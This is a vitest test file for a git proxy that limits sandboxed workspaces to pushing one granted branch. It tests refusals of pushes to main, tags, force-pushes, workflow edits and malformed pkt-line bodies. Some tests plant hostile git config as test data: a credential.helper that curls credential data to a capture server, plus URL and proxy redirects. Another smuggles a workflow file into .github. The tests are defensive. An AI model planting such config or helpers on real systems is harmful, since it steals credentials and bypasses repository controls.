import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { link, mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { Box, Grant, Log, Profile } from "@ws/workspace-core";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { createGit, type GitOptions } from "./index.ts";
import { runToEnd } from "./run-git.ts";
import { type GitServer, type ServedRepository, startGitServer } from "./testing/git-server.ts";
import { createGranting, type Granting } from "./testing/granting.ts";
import { openStandInBox } from "./testing/stand-in-box.ts";

const BRANCH = "parallax/exec-1/engineer/fix";
const WORKFLOW = ".github/workflows/ci.yml";
/** A script of the shape that the worker's own has. */
const helperScript: NonNullable<GitOptions["helperScript"]> = ({
  workspace,
  execution,
  expiresAt,
  host,
  path,
  capability,
}) =>
  `#!/bin/sh\n# Workspace: ${workspace}\n# Execution: ${execution}\n# Expires: ${expiresAt}\n` +
  `[ "$1" = get ] && grep -qx path=${path} && printf 'host=${host}\\nusername=x-access-token\\npassword=${capability}\\n'\n`;

const ME = ["-c", "user.name=T", "-c", "user.email=t@example.test"];
const Z = "0".repeat(40);
const O = "1".repeat(40);
const newToken = (): string => randomBytes(20).toString("hex");

let server: GitServer;
let token: string;
let said: string[];
let granting: Granting;
let count = 0;
beforeAll(async () => {
  server = await startGitServer();
});
afterAll(() => server[Symbol.asyncDispose]());
beforeEach(() => {
  token = newToken();
  said = [];
  granting = createGranting({ user: "x-access-token", password: token, renew: () => token });
});

test("a workspace clones, fetches and pushes its own branch with the worker's credential, and has none itself", async () => {
  await using place = await open();
  await commit(place, { "b.txt": "b\n" });
  expect((await push(place, BRANCH)).code).toBe(0);
  expect(await place.repository.git("rev-parse", BRANCH)).toBe(await git(place, "rev-parse", "HEAD"));
  await git(place, "fetch", "origin");
  expect(said.join("\n")).not.toContain(token);
  await commit(place, { "c.txt": "c\n" });
  expect((await push(place, BRANCH)).code).toBe(0);
  expect((await push(place, BRANCH)).stderr).toContain("Everything up-to-date");
});

test.each([
  [
    "main",
    () => ["HEAD:refs/heads/main"],
    /! \[remote rejected\] HEAD -> main \(this workspace may only push to paral/,
  ],
  ["another's branch", () => [`HEAD:refs/heads/${BRANCH}2`], /may only push to parallax\/exec-1\/engineer\/fix\)/],
  ["a deletion of main", () => [":refs/heads/main"], /! \[remote rejected\] main \(this workspace may not delete\)/],
  ["a deletion of its own branch", () => [`:refs/heads/${BRANCH}`], /\(this workspace may not delete\)/],
  ["a tag", () => ["HEAD:refs/tags/v1"], /! \[remote rejected\] HEAD -> v1 \(this workspace may not push tags/],
  ["a review ref", () => ["HEAD:refs/for/main"], /may only push to/],
  ["a note", () => ["HEAD:refs/notes/commits"], /may only push to/],
  [
    "a ref outside refs/heads that ends like its branch",
    () => [`HEAD:refs/x/refs/heads/${BRANCH}`],
    /may only push to/,
  ],
  ["its own branch beside main", () => [`HEAD:refs/heads/${BRANCH}`, "HEAD:refs/heads/main"], /refused together with/],
])("a push of %s is refused in git's own words and nothing of it arrives", async (_, refspecs, reason) => {
  await using place = await open();
  await commit(place, { "b.txt": "b\n" });
  await push(place, BRANCH);
  await commit(place, { "c.txt": "c\n" });
  const before = await place.repository.git("for-each-ref");
  const refused = await runToEnd(place.box, ["git", "push", "origin", ...refspecs()], inside(place));
  expect(refused.code).not.toBe(0);
  expect(refused.stderr).toMatch(reason);
  expect(refused.stderr).toMatch(/remote: Workspace refused the push of .*'ws credential grant'/);
  expect(await place.repository.git("for-each-ref")).toBe(before);
  await expect.poll(spools).toEqual([]);
});

test("a push that rewrites the workspace's branch is refused, and taken where the grant allows it", async () => {
  await using place = await open();
  await commit(place, { "b.txt": "b\n" });
  await push(place, BRANCH);
  const pushed = await place.repository.git("rev-parse", BRANCH);
  await git(place, "reset", "-q", "--hard", "HEAD~1");
  await commit(place, { "b.txt": "other\n" });
  const refused = await push(place, `+HEAD:${BRANCH}`);
  expect(refused.stderr).toMatch(
    /! \[remote rejected\] HEAD -> \S+ \(non-fast-forward: this workspace may not rewrite/,
  );
  expect(await place.repository.git("rev-parse", BRANCH)).toBe(pushed);
  place.grant.force = true;
  expect((await push(place, `+HEAD:${BRANCH}`)).code).toBe(0);
  expect(await place.repository.git("rev-parse", BRANCH)).toBe(await git(place, "rev-parse", "HEAD"));
});

test("going back to an earlier commit is a rewriting too, and going on from what somebody else pushed is none", async () => {
  await using place = await open();
  await commit(place, { "b.txt": "b\n" });
  await push(place, BRANCH);
  expect((await push(place, `+HEAD~1:${BRANCH}`)).stderr).toContain("non-fast-forward");
  await git(place, "checkout", "-q", "-b", "aside", "origin/side");
  await git(place, ...ME, "merge", "-q", "--no-edit", `origin/${BRANCH}`);
  expect(await push(place, `HEAD:${BRANCH}`)).toMatchObject({ code: 0 });
  await git(place, "checkout", "-q", "-b", "forward", "HEAD~1");
  expect((await push(place, `+HEAD:${BRANCH}`)).stderr).toContain("non-fast-forward");
});

test("a workflow file is refused with its name, wherever in the history it comes, and taken where the grant allows it", async () => {
  await using place = await open();
  await commit(place, { [WORKFLOW]: "on: push\n" });
  await git(place, "rm", "-q", WORKFLOW);
  await commit(place, { "b.txt": "b\n" });
  const refused = await push(place, BRANCH);
  expect(refused.stderr).toMatch(
    /\(this workspace may not change workflow files: \.github\/workflows\/ci\.yml in [0-9a-f]/,
  );
  place.grant.workflows = true;
  expect((await push(place, BRANCH)).code).toBe(0);
});

test("where a repository has workflow files, work beside them is taken, a change of one is not, and neither is one that comes by another name", async () => {
  await using place = await open({ [WORKFLOW]: "on: push\n", "a.txt": "a\n" });
  await commit(place, { "b.txt": "b\n" });
  expect(await push(place, BRANCH)).toMatchObject({ code: 0 });
  await commit(place, { "evil/workflows/ci.yml": "on: pull_request_target\n" });
  expect(await push(place, BRANCH)).toMatchObject({ code: 0 });
  const smuggled = (await git(place, "rev-parse", "HEAD:evil")).trim();
  await git(place, "rm", "-q", "-r", ".github");
  await git(place, "read-tree", "--prefix=.github", smuggled);
  await git(place, ...ME, "commit", "-qm", "Move");
  expect((await push(place, BRANCH)).stderr).toMatch(/may not change workflow files: \.github\/workflows\/ci\.yml/);
});

test("a merge that brings the default branch's own change of a workflow file is no change of the workspace's", async () => {
  await using place = await open({ [WORKFLOW]: "on: push\n" });
  await commit(place, { "b.txt": "b\n" });
  await push(place, BRANCH);
  await place.change("main", { [WORKFLOW]: "on: [push]\n" });
  await git(place, "fetch", "-q", "origin");
  await git(place, ...ME, "merge", "-q", "--no-edit", "origin/main");
  expect(await push(place, BRANCH)).toMatchObject({ code: 0 });
  await writeFile(join(place.directory, WORKFLOW), "on: [push, workflow_dispatch]\n");
  await git(place, ...ME, "commit", "-qam", "Change");
  expect((await push(place, BRANCH)).stderr).toContain("may not change workflow files");
});

test("a commit that goes back to an older state is judged by what the server has of it", async () => {
  await using place = await open({ [WORKFLOW]: "on: push\n", "a.txt": "1\n" });
  await place.change("main", { "a.txt": "2\n" });
  await git(place, "fetch", "-q", "origin");
  await git(place, "reset", "-q", "--hard", "origin/main");
  await git(place, ...ME, "revert", "--no-edit", "HEAD");
  expect(await push(place, BRANCH)).toMatchObject({ code: 0 });
});

test("tags are pushed where the grant allows them, and moved only where it allows rewriting", async () => {
  await using place = await open();
  place.grant.tags = true;
  await git(place, ...ME, "tag", "-a", "-m", "One", "v1");
  expect(await push(place, "v1")).toMatchObject({ code: 0 });
  await commit(place, { "b.txt": "b\n" });
  await git(place, "tag", "-f", "v1");
  expect((await push(place, "+v1")).stderr).toContain("(this workspace may not move a tag)");
});

test("the first push to an empty repository is judged like any other", async () => {
  await using place = await open({});
  await commit(place, { "a.txt": "a\n" });
  expect((await push(place, "HEAD:refs/heads/main")).stderr).toContain("may only push to");
  expect(await push(place, `HEAD:refs/heads/${BRANCH}`)).toMatchObject({ code: 0 });
});

test("a repository with SHA-256 is pushed to by the same rules", async () => {
  await using place = await open(undefined, { objectFormat: "sha256" });
  await commit(place, { "b.txt": "b\n" });
  expect(await push(place, `HEAD:refs/heads/${BRANCH}`)).toMatchObject({ code: 0 });
  await commit(place, { [WORKFLOW]: "on: push\n" });
  expect((await push(place, `HEAD:refs/heads/${BRANCH}`)).stderr).toContain("may not change workflow files");
});

test("a grant for reading lets a workspace fetch and refuses its pushes in words", async () => {
  await using place = await open();
  place.grant.access = "read";
  await git(place, "fetch", "origin");
  expect((await push(place, "HEAD:x")).stderr).toContain("remote: Workspace may only read this repository.");
});

test("a grant that was revoked or has expired is told with the next step", async () => {
  await using place = await open();
  place.grant.expiresAt = Date.now() - 1;
  const expired = await push(place, "HEAD:x");
  expect(expired.stderr).toMatch(/remote: Workspace may not use \S+ any more: its grant expired at 2.*'ws credential/);
  await granting.revoke("ws-standin");
  place.grant.revokedAt = Date.now();
  expect((await push(place, "HEAD:x")).stderr).toContain("its grant was revoked");
});

test("whatever the workspace sends as its own authorization does not go to a granted repository", async () => {
  await using place = await open();
  const other = place.repository.url.replace("https://", "https://me:mine@");
  expect(await runToEnd(place.box, ["git", "ls-remote", other], inside(place))).toMatchObject({ code: 0 });
});

test.each(["answers", "closes before its answer is read"])(
  "a token that ends while a pack is on its way is renewed, and the push arrives once, where the forge %s",
  async (how) => {
    await using place = await open();
    await commit(place, { "big.bin": randomBytes(3_000_000) });
    const before = token;
    const meanwhile = (): void => void (token = newToken());
    server.breakPush(place.name, { afterBytes: 500_000, end: how === "answers" ? 401 : "close", meanwhile });
    expect(await push(place, BRANCH)).toMatchObject({ code: 0 });
    expect(granting.refused).toEqual([before]);
    expect(await place.repository.git("rev-parse", BRANCH)).toBe(await git(place, "rev-parse", "HEAD"));
    const posts = server.requests.filter(({ url }) => url.startsWith(`/${place.name}.git/git-receive-pack`));
    // Git's own question whether it is let in, what was broken off, and what was taken.
    expect(posts).toHaveLength(3);
  },
);

test.each([
  ["refuses two tokens", [401, 401], /\(Workspace cannot log in: the credential work was refused by 127/],
  ["forbids", [403], /\(127\S+ answered with the status 403: You may not: \*\*\*\)/],
  ["breaks down", [502], /\(127\S+ answered with the status 502: You may not: \*\*\*\)/],
  ["closes the connection", ["close" as const], /\(Workspace cannot reach 127\S+: the connection was cut/],
])(
  "a forge that %s in the middle of a pack is no success, and its answer does not bring the token",
  async (_, ends, words) => {
    await using place = await open();
    await commit(place, { "big.bin": randomBytes(3_000_000) });
    const meanwhile = (): void => void (ends[0] === 401 && (token = newToken()));
    const shown = `You may not: ${token}\n`;
    for (const end of ends) server.breakPush(place.name, { afterBytes: 500_000, end, text: shown, meanwhile });
    const failed = await push(place, BRANCH);
    expect(failed.code).not.toBe(0);
    expect(failed.stderr).toMatch(words);
    expect(await place.repository.git("for-each-ref", `refs/heads/${BRANCH}`)).toBe("");
    expect(await push(place, BRANCH)).toMatchObject({ code: 0 });
  },
);

test("a refused push of a large pack is told as one, not as a broken connection", async () => {
  await using place = await open();
  await commit(place, { "big.bin": randomBytes(20_000_000) });
  expect((await push(place, "HEAD:refs/heads/main")).stderr).toMatch(/! \[remote rejected\]/);
});

test("pushes of several workspaces at once do not meet", async () => {
  const places = await Promise.all([1, 2, 3, 4].map(() => open()));
  await Promise.all(places.map((place, index) => commit(place, { "big.bin": randomBytes(1_000_000 + index) })));
  const pushed = await Promise.all(places.map((place) => push(place, BRANCH)));
  expect(pushed.map(({ code }) => code)).toEqual([0, 0, 0, 0]);
  for (const place of places) {
    expect(await place.repository.git("rev-parse", BRANCH)).toBe(await git(place, "rev-parse", "HEAD"));
    await place[Symbol.asyncDispose]();
  }
  await expect.poll(spools).toEqual([]);
});

test.each([
  ["a line without a length", "zzzz", 400],
  ["a length that lies", "fff0", 400],
  ["a line that is cut", "00ff0000", 400],
  ["a length below a line's own", "0003", 400],
  ["a command list that never ends", line("shallow " + "0".repeat(40)).repeat(30_000), 400],
  [
    "more changes than a push has",
    `${command("a")}${"bcdefghijkl"
      .split("")
      .map((c) => line(`${Z} ${O} refs/heads/${c}`))
      .join("")
      .repeat(8)}0000`,
    400,
  ],
  ["a second NUL", `${line(`${Z} ${O} refs/heads/a\0 report-status\0x`)}${line(`${Z} ${O} refs/heads/b\0x`)}0000`, 400],
  ["a signed push", `${line("push-cert\0 report-status")}0000`, 400],
  ["push options", `${line(`${Z} ${O} refs/heads/${BRANCH}\0 report-status push-options`)}0000`, 400],
  ["a name with a control character", `${line(`${Z} ${O} refs/heads/a\nb\0 report-status`)}0000`, 400],
  ["a ref twice", `${command(BRANCH)}${line(`${Z} ${O} refs/heads/${BRANCH}`)}0000`, 400],
  ["an unknown hash", `${line(`${Z} ${O} refs/heads/a\0 object-format=md5`)}0000`, 400],
  ["a pack for nothing", "0000PACK", 400],
  ["a pack that is none", `${command(BRANCH)}0000PACKgarbage`, 200],
])("%s is refused before anything reaches the forge", async (_, body, status) => {
  await using place = await open();
  const before = server.requests.length;
  const answered = await post(place, body);
  expect(answered.status).toBe(status);
  expect(await answered.text()).toMatch(/Workspace refused th(?:is|e) push/);
  expect(server.requests).toHaveLength(before);
  await expect.poll(spools).toEqual([]);
});

test("a compressed push is refused, because it is not looked into", async () => {
  await using place = await open();
  const answered = await post(place, "0000", { "Content-Encoding": "gzip" });
  expect(await answered.text()).toContain("it is compressed");
});

test("a granted repository has a helper script of its own, which git's status does not show and which is not the token", async () => {
  await using place = await open(undefined, { helperScript });
  place.grant.execution = "exec-1";
  expect((await place.box.files.stat(join(place.directory, HELPER))).mode).toBe(0o700);
  const first = await readFile(join(place.directory, HELPER), "utf8");
  expect(first).toMatch(/^#!.*\n# Workspace: ws-standin\n/);
  expect(await git(place, "status", "--porcelain", "--untracked-files=all")).toBe("");
  const capability = await fillIn(place);
  expect(capability).toMatch(/^[0-9a-f]{48}$/);
  expect(first).not.toContain(token);
  await place.attach();
  expect(await fillIn(place)).not.toBe(capability);
  expect(await readFile(join(place.directory, ".git/info/exclude"), "utf8")).toMatch(/^\/\.parallax-credentials$/m);
  expect(
    (await git(place, "config", "--get-all", `credential.${place.repository.url}.helper`)).split("\n"),
  ).toHaveLength(2);
});

test("what the helper answers is good on the workspace's own way to the worker and is shown to no forge", async () => {
  await using place = await open(undefined, { helperScript });
  const capability = await fillIn(place);
  const include = await readFile(`${place.box.home}/.config/git/ws-forward`, "utf8");
  const port = /127\.0\.0\.1:(\d+)/.exec(include)?.[1];
  const path = `${place.repository.url.slice("https://".length)}/info/refs?service=git-upload-pack`;
  const asked = (password: string, to = path): Promise<Response> => {
    const authorization = `Basic ${Buffer.from(`x-access-token:${password}`).toString("base64")}`;
    return fetch(`http://127.0.0.1:${port}/${to}`, { headers: { authorization } });
  };
  expect((await asked(capability)).status).toBe(200);
  expect((await asked("x".repeat(48))).status).toBe(403);
  const other = await server.create("o/open");
  const before = server.requests.length;
  expect((await asked(capability, `${other.url.slice(8)}/info/refs?service=git-upload-pack`)).status).toBe(200);
  expect(server.requests.slice(before).map(({ authorized }) => authorized)).toEqual([false]);
});

test("the helper script is written anew when its grant is renewed, and overwritten and removed when it is revoked", async () => {
  await using place = await open(undefined, { helperScript });
  place.grant.expiresAt += 3_600_000;
  await git(place, "fetch", "origin");
  const read = (): Promise<string> => readFile(join(place.directory, HELPER), "utf8").catch(() => "gone");
  await expect.poll(read).toContain(`# Expires: ${place.grant.expiresAt}\n`);
  await link(join(place.directory, HELPER), join(place.box.home, "kept"));
  await granting.revoke("ws-standin");
  await push(place, BRANCH);
  await expect.poll(read).toBe("gone");
  expect(await readFile(join(place.box.home, "kept"), "utf8")).toMatch(/^\0+$/);
  expect(
    await runToEnd(place.box, ["git", "config", "--get-regexp", "^credential.https"], inside(place)),
  ).toMatchObject({
    stdout: "",
  });
});

test("a repository that has a file of the helper's name itself keeps it", async () => {
  await using place = await open({ [HELPER]: "mine\n" }, { helperScript });
  expect(await readFile(join(place.directory, HELPER), "utf8")).toBe("mine\n");
  place.grant.revokedAt = Date.now();
  await place.attach();
  expect(await readFile(join(place.directory, HELPER), "utf8")).toBe("mine\n");
});

test("CVE-2020-5260: what a workspace plants in its git configuration leads git away, and no authorization of the worker's with it", async () => {
  const seen: { authorization: string | undefined; url: string }[] = [];
  const capture = createServer((request, response) => {
    seen.push({ authorization: request.headers.authorization, url: request.url ?? "" });
    // It asks for whatever there is.
    response.writeHead(401, { "WWW-Authenticate": 'Basic realm="x"', "Proxy-Authenticate": 'Basic realm="x"' }).end();
  });
  capture.listen(0, "127.0.0.1");
  await once(capture, "listening");
  const away = `http://127.0.0.1:${(capture.address() as AddressInfo).port}/`;
  await using place = await open(undefined, { helperScript });
  await commit(place, { "b.txt": "b\n" });
  const planted: (readonly string[])[] = [
    [`url.${away}.insteadOf`, server.origin],
    [`url.${away}.pushInsteadOf`, "https://"],
    ["http.proxy", away],
    ["remote.origin.pushurl", `${away}o/r`],
    ["credential.helper", `!f() { curl -s "${away}?$1=$(tr '\\n' '&')"; }; f`],
  ];
  for (const [name = "", value = ""] of planted) {
    const before = seen.length;
    await git(place, "config", name, value);
    await push(place, `HEAD:${BRANCH}`);
    await runToEnd(place.box, ["git", "fetch", "origin"], inside(place));
    const isLedAway = name.startsWith("url.") || name.startsWith("remote.");
    expect(seen.length > before).toBe(isLedAway);
    await git(place, "config", "--unset-all", name);
  }
  expect(seen.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
  expect(JSON.stringify(seen)).not.toContain(token);
  expect((await push(place, BRANCH)).code).toBe(0);
  capture.close();
});

test("the profile 'agent' reaches its own repository and what it is granted, and no other one of the same server", async () => {
  await using place = await open({}, { profile: "agent" });
  await server.create("o/public");
  await git(place, "ls-remote", "origin");
  const other = await runToEnd(place.box, ["git", "ls-remote", `${server.origin}/o/public.git`], inside(place));
  expect(other.stderr).toMatch(/'agent' has only its own repository/);
});

function line(content: string): string {
  return (Buffer.byteLength(content) + 4).toString(16).padStart(4, "0") + content;
}

function command(branch: string): string {
  return line(`${Z} ${O} refs/heads/${branch}\0 report-status side-band-64k`);
}

const HELPER = ".parallax-credentials";

async function fillIn(place: Opened): Promise<string> {
  const stdin = `url=${place.repository.url}\n\n`;
  const { stdout } = await runToEnd(place.box, ["git", "credential", "fill"], { ...inside(place), stdin });
  return /^password=(.*)$/m.exec(stdout)?.[1] ?? "";
}

interface Opened extends AsyncDisposable {
  box: Box;
  /** Opens its way anew, as a new connection does. */
  attach(): Promise<void>;
  name: string;
  directory: string;
  repository: ServedRepository;
  grant: Grant;
  /** Somebody else's commit on a branch of the server. */
  change(branch: string, files: Record<string, string>): Promise<void>;
}

interface OpenOptions extends Partial<GitOptions> {
  objectFormat?: "sha256";
  profile?: Profile;
}

/** A workspace with a clone of a private repository of its own, and a grant for one branch of it. */
async function open(
  files: Record<string, string> = { "a.txt": "a\n" },
  { objectFormat, profile = "person", ...gitOptions }: OpenOptions = {},
): Promise<Opened> {
  const name = `o/r${count++}`;
  const auth = (user: string, password: string) => user === "x-access-token" && password === token;
  const branches = Object.keys(files).length === 0 ? [] : ["side"];
  const repository = await server.create(name, { files, auth, branches, ...(objectFormat && { objectFormat }) });
  const url = repository.url.replace(/\.git$/, "");
  const grant = granting.give({ url, branches: [BRANCH] });
  const box = await openStandInBox();
  const say = (message: string, fields?: object): void => void said.push(`${message} ${JSON.stringify(fields)}`);
  const log: Log = { debug: say, info: say, warn: say, error: say };
  const made = createGit({ log, ca: [server.ca], credentials: granting, ...gitOptions });
  const own = { url: repository.url, name: "r" };
  const attach = (): Promise<void> => made.attach(box, { profile, repository: own });
  await attach();
  await made.clone(box, { ...own, branch: BRANCH }, { group: "clone", report: () => undefined });
  return {
    box,
    attach,
    name,
    directory: `${box.home}/r`,
    repository,
    grant,
    async change(branch, changed) {
      const work = `${box.home}/somebody`;
      const run = (...argv: string[]) => runToEnd(box, ["git", ...argv], { cwd: work });
      await runToEnd(box, ["git", "clone", "-q", "-b", branch, repository.path, work]);
      await write(work, changed);
      await run("add", "--all");
      await run(...ME, "commit", "-qm", "Somebody's");
      await run("push", "-q", "origin", branch);
      await runToEnd(box, ["rm", "-rf", work]);
    },
    [Symbol.asyncDispose]: () => box[Symbol.asyncDispose](),
  };
}

function inside(place: Opened): { cwd: string; env: Record<string, string> } {
  return { cwd: place.directory, env: { LC_ALL: "C", GIT_TERMINAL_PROMPT: "0" } };
}

async function git(place: Opened, ...argv: string[]): Promise<string> {
  const outcome = await runToEnd(place.box, ["git", ...argv], inside(place));
  if (outcome.code !== 0) throw new Error(outcome.stderr);
  return outcome.stdout;
}

async function commit(place: Opened, files: Record<string, string | Uint8Array>): Promise<void> {
  await write(place.directory, files);
  await git(place, "add", "--all");
  await git(place, ...ME, "commit", "-qm", "Work");
}

async function write(directory: string, files: Record<string, string | Uint8Array>): Promise<void> {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(directory, name)), { recursive: true });
    await writeFile(join(directory, name), content);
  }
}

function push(place: Opened, refspec: string): ReturnType<typeof runToEnd> {
  return runToEnd(place.box, ["git", "push", "origin", refspec], inside(place));
}

/** What something in a workspace that is not git sends. */
async function post(place: Opened, body: string, headers: Record<string, string> = {}): Promise<Response> {
  const include = await readFile(`${place.box.home}/.config/git/ws-forward`, "utf8");
  const origin = /\[url "([^"]+)"\]/.exec(include)?.[1] ?? "";
  const url = `${origin}${place.repository.url.slice("https://".length)}/git-receive-pack`;
  return fetch(url, { method: "POST", body, headers });
}

/** Pushes that lie on the worker's disk. */
async function spools(): Promise<string[]> {
  return (await readdir(tmpdir())).filter((name) => name.startsWith("ws-push-"));
}
